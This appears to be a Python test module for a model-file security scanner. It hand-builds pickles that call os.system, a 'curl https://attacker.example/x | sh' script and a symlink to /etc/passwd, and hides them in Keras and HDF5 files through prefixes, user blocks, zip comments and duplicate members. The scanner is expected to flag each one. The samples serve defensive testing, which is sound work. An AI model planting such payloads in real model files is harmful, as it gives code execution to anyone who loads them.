"""Security cases: polyglot prefixes, HDF5 user blocks, members Keras ignores, zip details and the
duplicate-npz proof of concept (issue 14 items 3, 4, 7, 10).

Each Case (tests/security/kit.py) is an attack made from a real file, with its benign twin; BASES are
the extra real files these cases start from (name -> builder(out_dir) -> path), saved once per run.
Every edit is one an attacker makes to the saved bytes: `cat prefix model.keras`, `zip -A`, `h5jam`,
`zip -z`, a member appended with `zipfile` or a local header patched in place.
"""

from __future__ import annotations

import io
import json
import shutil
import struct
import warnings
import zipfile
from pathlib import Path

from tests.security.kit import Case, b64_code, fn_ref

# ---- the bytes an attacker hides ---------------------------------------------------------------


def os_system_pickle(command: str = "touch /tmp/never-created") -> bytes:
    """`os.system(command)` as pickle protocol 2 opcodes, written by hand (pickle.dumps of a callable
    would be the same bytes; nothing here ever unpickles them): PROTO 2, GLOBAL posix.system,
    BINUNICODE command, TUPLE1, REDUCE, STOP."""
    arg = command.encode()
    return b"\x80\x02" + b"cposix\nsystem\n" + b"X" + struct.pack("<I", len(arg)) + arg + b"\x85" + b"R" + b"."


SHELL_SCRIPT = b"#!/bin/sh\ncurl -s https://attacker.example/x | sh\nexit 0\n"
PYTHON_SCRIPT = b"import os\nos.system('id > /tmp/never-created')\n"
CARD = b"Model card: a two-layer regressor trained on the house-prices table by the CI pipeline, 2026-11-30.\n"
BINARY = bytes(range(7, 256)) * 2


# ---- edits of a saved file ---------------------------------------------------------------------


def prepended(prefix: bytes, adjust: bool = False):
    """`cat prefix model.keras > out` (offsets left as they were: readers find the shift from the end
    record), or with `adjust` as `zip -A` leaves it (every offset moved by the prefix)."""

    def make(src, dst, tmp):
        data = bytearray(Path(src).read_bytes())
        if adjust:
            _shift_offsets(data, len(prefix))
        out = dst + ".keras"
        Path(out).write_bytes(prefix + bytes(data))
        return out

    return make


def _shift_offsets(data: bytearray, delta: int) -> None:
    end = data.rfind(b"PK\x05\x06")
    count, cd_size, cd_offset = struct.unpack_from("<HII", data, end + 10)
    pos = cd_offset
    for _ in range(count):
        assert data[pos:pos + 4] == b"PK\x01\x02"
        nlen, xlen, clen = struct.unpack_from("<HHH", data, pos + 28)
        struct.pack_into("<I", data, pos + 42, struct.unpack_from("<I", data, pos + 42)[0] + delta)
        pos += 46 + nlen + xlen + clen
    struct.pack_into("<I", data, end + 16, cd_offset + delta)


def followed_by(suffix: bytes):
    """`cat model suffix > out`: bytes after the end of the file Keras wrote."""

    def make(src, dst, tmp):
        out = dst + Path(src).suffix
        Path(out).write_bytes(Path(src).read_bytes() + suffix)
        return out

    return make


def zipapp(source: bytes) -> bytes:
    """A zip holding `__main__.py`: what `python FILE` runs, found from the file's end."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("__main__.py", source)
    return buf.getvalue()


def user_block(block: bytes, size: int = 512):
    """What `h5jam` does to a saved .h5: `size` bytes (a power of two, at least 512) before the
    superblock, holding `block`, and the superblock's base and end-of-file addresses moved by them."""

    def make(src, dst, tmp):
        data = bytearray(Path(src).read_bytes())
        assert data[:8] == b"\x89HDF\r\n\x1a\n" and data[8] == 0  # h5py's default: superblock version 0
        struct.pack_into("<Q", data, 24, size)  # base address: the superblock's own offset
        struct.pack_into("<Q", data, 40, struct.unpack_from("<Q", data, 40)[0] + size)  # end of file
        out = dst + ".h5"
        Path(out).write_bytes(block.ljust(size, b"\0") + bytes(data))
        return out

    return make


def weights_user_block(block: bytes, size: int = 512):
    """The .keras archive rewritten with its model.weights.h5 given a user block as `user_block` does."""

    def make(src, dst, tmp):
        weights = Path(tmp) / f"{Path(dst).name}-weights"
        with zipfile.ZipFile(src) as zin:
            Path(f"{weights}.h5").write_bytes(zin.read("model.weights.h5"))
        blocked = Path(user_block(block, size)(f"{weights}.h5", f"{weights}-blocked", tmp)).read_bytes()
        out = dst + ".keras"
        with zipfile.ZipFile(src) as zin, zipfile.ZipFile(out, "w") as zout:
            for info in zin.infolist():
                zout.writestr(info, blocked if info.filename == "model.weights.h5" else zin.read(info))
        return out

    return make


def commented(comment: bytes):
    """`zip -z`: an archive comment."""

    def make(src, dst, tmp):
        out = dst + ".keras"
        shutil.copyfile(src, out)
        with zipfile.ZipFile(out, "a") as zf:
            zf.comment = comment
        return out

    return make


def appended(name: str, data: bytes, mode: int = 0o100644, first: bool = False, method=zipfile.ZIP_STORED):
    """A member added with its Unix mode (a symbolic link: 0o120777, its data the link's target); with
    `first`, written before every member Keras wrote."""

    def make(src, dst, tmp):
        out = dst + ".keras"
        info = zipfile.ZipInfo(name, (2026, 11, 30, 12, 0, 0))
        info.create_system, info.external_attr, info.compress_type = 3, mode << 16, method
        with zipfile.ZipFile(src) as zin, zipfile.ZipFile(out, "w") as zout, warnings.catch_warnings():
            warnings.filterwarnings("ignore", "Duplicate name", UserWarning)
            if first:
                zout.writestr(info, data)
            for old in zin.infolist():
                zout.writestr(old, zin.read(old))
            if not first:
                zout.writestr(info, data)
        return out

    return make


def unreadable_first(name: str):
    """A first copy of `name` that no reader can inflate (deflate data that is garbage), before the
    archive Keras wrote: Python's zipfile, and so Keras, reads the second, real one."""

    def make(src, dst, tmp):
        out = appended(name, b"", first=True, method=zipfile.ZIP_DEFLATED)(src, dst, tmp)
        data = bytearray(Path(out).read_bytes())
        with zipfile.ZipFile(out) as zf:
            info = zf.infolist()[0]
        start = info.header_offset + 30 + len(info.filename)
        data[start:start + info.compress_size] = b"\xff" * info.compress_size  # reserved block type: invalid
        Path(out).write_bytes(bytes(data))
        return out

    return make


def metadata(edit):
    """metadata.json replaced by edit(the dict Keras wrote) (bytes: written as they are)."""

    def make(src, dst, tmp):
        out = dst + ".keras"
        with zipfile.ZipFile(src) as zin, zipfile.ZipFile(out, "w") as zout:
            for info in zin.infolist():
                data = zin.read(info)
                if info.filename == "metadata.json":
                    new = edit(json.loads(data))
                    data = new if isinstance(new, bytes) else json.dumps(new).encode()
                zout.writestr(info, data)
        return out

    return make


def lambda_with_metadata(meta: bytes):
    """k3_lambda's real archive with metadata.json replaced: the config is still audited."""
    return metadata(lambda _m: meta)


def local_header(member: str, **fields):
    """One member's local header patched in place (the central directory left as Keras wrote it):
    `usize` its uncompressed size, `name` its name (same length)."""

    def make(src, dst, tmp):
        out = dst + ".keras"
        data = bytearray(Path(src).read_bytes())
        with zipfile.ZipFile(src) as zf:
            info = zf.getinfo(member)
        if "usize" in fields:
            struct.pack_into("<I", data, info.header_offset + 22, fields["usize"])
        if "name" in fields:
            raw = fields["name"].encode()
            assert len(raw) == len(info.filename)
            data[info.header_offset + 30:info.header_offset + 30 + len(raw)] = raw
        Path(out).write_bytes(bytes(data))
        return out

    return make


def with_asset(name: str, data: bytes, then):
    """A real asset member added, then `then` applied to the result."""

    def make(src, dst, tmp):
        first = appended(name, data)(src, dst + "-asset", tmp)
        return then(first, dst, tmp)

    return make


class _Stream(io.RawIOBase):
    """A write-only, unseekable sink: zipfile writes each member with a data descriptor (sizes and CRC
    after the data, zeros in the local header), as streaming zip writers do."""

    def __init__(self):
        self.buf = bytearray()

    def writable(self):
        return True

    def write(self, b):
        self.buf += b
        return len(b)


def streamed(src, dst, tmp):
    """The archive rewritten by a streaming writer: every local header says "sizes follow"."""
    sink = _Stream()
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(sink, "w") as zout:
        for info in zin.infolist():
            with zin.open(info) as member, zout.open(zipfile.ZipInfo(info.filename, info.date_time), "w") as w:
                shutil.copyfileobj(member, w)
    out = dst + ".keras"
    Path(out).write_bytes(bytes(sink.buf))
    return out


def copied(src, dst, tmp):
    out = dst + Path(src).suffix
    shutil.copyfile(src, out)
    return out


def h5_sibling(src, dst, tmp):
    """The twin of the proof of concept: the same model as Keras saves it by default (h5 weights). No
    harmless spelling of it exists: a second weights member is a duplicate, and even the npz weights
    Keras 3.15 writes are pickles of its variables (MA410 warns of those)."""
    return copied(str(Path(src).with_name("k3_dense.keras")), dst, tmp)


def second_npz_pickle(src, dst, tmp):
    """The published proof of concept: a second model.weights.npz appended to a real .keras, holding
    a bare pickle that calls os.system. zipfile (and so Keras) reads the last one; Keras 3 releases
    that loaded npz weights with np.load(allow_pickle=True) unpickled it."""
    return appended("model.weights.npz", os_system_pickle())(src, dst, tmp)


# ---- the real files these cases start from -------------------------------------------------------


def _k3_npz(out: Path) -> str:
    """A Keras 3 .keras whose weights are model.weights.npz (saving_lib's weights_format="npz")."""
    import keras
    from keras.src.saving import saving_lib

    model = keras.Sequential([keras.Input((4,)), keras.layers.Dense(3, name="dense"), keras.layers.Dense(2, name="out")])
    path = str(out / "k3_npz.keras")
    saving_lib.save_model(model, path, weights_format="npz")
    return path


BASES: dict = {"k3_npz": _k3_npz}


def _meta(**extra):
    return lambda m: {**m, **extra}


CASES: list = [
    # item 3: polyglot prefixes; Keras's loaders find the zip from its end and HDF5 at 512, 1024 ...
    Case("keras-pickle-prefix", "k3_dense", prepended(os_system_pickle()), "MA411", None,
         "a pickle naming `posix.system`", twin=prepended(CARD)),
    Case("keras-script-prefix-offsets-adjusted", "k3_dense", prepended(SHELL_SCRIPT, adjust=True), "MA411", None,
         "a script", twin=prepended(b"\0" * 4096, adjust=True)),
    Case("keras-binary-prefix", "k3_dense", prepended(BINARY), "MA411", None, "binary data",
         twin=prepended(b"\0" * 100)),
    Case("keras-prefix-config-still-audited", "k3_lambda", prepended(CARD), "MA401", "lam",
         "`config.layers[1].config.function`"),
    Case("h5-pickle-user-block", "k2_dense", user_block(os_system_pickle()), "MA411", None,
         "bytes before the HDF5 superblock (its user block) are a pickle", twin=user_block(b"")),
    Case("h5-script-user-block-2048", "k2_dense", user_block(PYTHON_SCRIPT, 2048), "MA411", None, "a script",
         twin=user_block(CARD, 2048)),
    Case("h5-user-block-config-still-audited", "k2_lambda", user_block(CARD, 1024), "MA401", "lam",
         "`config.layers[1].config.function`"),
    Case("keras-weights-pickle-user-block", "k3_dense", weights_user_block(os_system_pickle()), "MA411", None,
         "zip member 'model.weights.h5' (its user block) are a pickle naming `posix.system`",
         twin=weights_user_block(b"")),
    Case("h5-zipapp-appended", "k2_dense", followed_by(zipapp(PYTHON_SCRIPT)), "MA411", None,
         "after the end of file the HDF5 superblock records are a zip archive holding `__main__.py`",
         twin=followed_by(b"\0" * 512)),
    Case("keras-pickle-appended", "k3_dense", followed_by(os_system_pickle()), "MA411", None,
         "after the zip archive's end are a pickle", twin=followed_by(b"\n")),
    # item 4: members Keras writes or keeps but never reads
    Case("metadata-not-json", "k3_dense", metadata(lambda m: b"{'keras_version': 3"), "MA405", None,
         "metadata.json is not what Keras writes", twin=metadata(_meta(keras_version="3.99.0", producer="ci"))),
    Case("metadata-broken-config-still-audited", "k3_lambda", lambda_with_metadata(b"\xff\xfe garbage"), "MA401", "lam",
         "`config.layers[1].config.function`"),
    Case("metadata-names-os-system", "k3_dense", metadata(_meta(loader=fn_ref("os", "system"))), "MA405", None,
         "`os.system` at `metadata.json.loader`", twin=metadata(_meta(loader="keras.saving.load_model() reads this"))),
    Case("metadata-bytecode", "k3_dense", metadata(_meta(note=b64_code())), "MA405", None,
         "marshalled Python code object at `metadata.json.note`", twin=metadata(_meta(note="trained nightly"))),
    Case("metadata-past-the-bound", "k3_dense", metadata(_meta(pad="x" * (2 << 20))), "MA405", None,
         "more than the 1048576-byte bound", twin=metadata(_meta(pad="x" * (512 << 10)))),
    Case("duplicate-config-first-unreadable", "k3_dense", unreadable_first("config.json"), "MA405", None,
         "'config.json' appears twice", twin=appended("assets/notes.txt", CARD, first=True)),
    Case("duplicate-weights-first-unreadable", "k3_dense", unreadable_first("model.weights.h5"), "MA405", None,
         "'model.weights.h5' appears twice",
         twin=appended("assets/notes.txt", CARD, first=True, method=zipfile.ZIP_DEFLATED)),
    # item 7: zip details
    Case("zip-symlink-member", "k3_dense", appended("assets/vocab.txt", b"/etc/passwd", 0o120777), "MA405", None,
         "'assets/vocab.txt' is a symbolic link", twin=appended("assets/vocab.txt", b"a\nb\n", 0o100644)),
    # any comment is reported (Keras never writes one): text a warning, code an error; the twin clears it
    Case("zip-comment-pickle", "k3_dense", commented(os_system_pickle()), "MA405", None,
         "the archive comment (", twin=commented(b"")),
    Case("zip-comment-script", "k3_dense", commented(PYTHON_SCRIPT), "MA405", None, "is a script",
         twin=commented(b"")),
    Case("zip-comment-binary", "k3_dense", commented(BINARY), "MA405", None, "binary data",
         twin=commented(b"")),
    Case("zip-comment-text", "k3_dense", commented(b"built by CI run 4711 on 2026-11-30"), "MA405", None,
         "the archive comment (34 bytes) is text", twin=commented(b"")),
    Case("zip-local-size-disagrees", "k3_dense", local_header("model.weights.h5", usize=12), "MA405", None,
         "'model.weights.h5': its local header gives size 12", twin=streamed),
    Case("zip-local-name-disagrees", "k3_dense", with_asset("assets/ab.txt", b"#", local_header(
        "assets/ab.txt", name="../../abc.pth")), "MA405", None, "names it '../../abc.pth'",
         twin=with_asset("assets/ab.txt", b"#", copied)),
    # item 10: the published proof of concept, on a real npz-weights .keras
    Case("poc-second-npz-is-a-pickle", "k3_npz", second_npz_pickle, "MA405", None,
         "'model.weights.npz' appears twice", twin=h5_sibling),
    Case("poc-second-npz-pickle-named", "k3_npz", second_npz_pickle, "MA410", None,
         "`model.weights.npz` is a pickle", twin=h5_sibling),
]
